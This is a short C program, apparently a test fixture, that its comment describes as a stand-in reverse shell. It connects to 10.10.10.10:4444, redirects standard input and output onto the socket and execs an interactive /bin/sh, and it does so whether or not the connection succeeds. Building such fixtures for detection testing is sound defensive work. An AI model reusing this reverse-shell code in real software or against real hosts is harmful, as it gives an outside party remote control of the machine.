/* Stands in for a reverse shell: connects to 10.10.10.10:4444 (an IP literal,
 * no DNS), puts the socket on fds 0, 1 and 2 and execs "/bin/sh -i". If the
 * connect fails the unconnected socket is used all the same, so the
 * dup2-then-exec pattern happens with or without a network. Exit 3 if the
 * exec fails. */
#include <stdlib.h>

#include "net.h"

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) {
    printf("socket failed: %s\n", strerror(errno));
    return 1;
  }
  struct sockaddr_in sa;
  memset(&sa, 0, sizeof(sa));
  sa.sin_family = AF_INET;
  sa.sin_port = htons(4444);
  inet_pton(AF_INET, "10.10.10.10", &sa.sin_addr);
  /* A blocking connect that cannot hang forever. */
  struct timeval tv = {2, 0};
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
  if (connect(fd, (struct sockaddr*)&sa, sizeof(sa)) == 0)
    printf("connect 10.10.10.10:4444 ok\n");
  else
    printf("connect 10.10.10.10:4444 failed: %s\n", strerror(errno));
  printf("exec /bin/sh -i on the socket\n");
  fflush(stdout);
  dup2(fd, 0);
  dup2(fd, 1);
  dup2(fd, 2);
  if (fd > 2) close(fd);
  execl("/bin/sh", "sh", "-i", (char*)NULL);
  return 3;
}
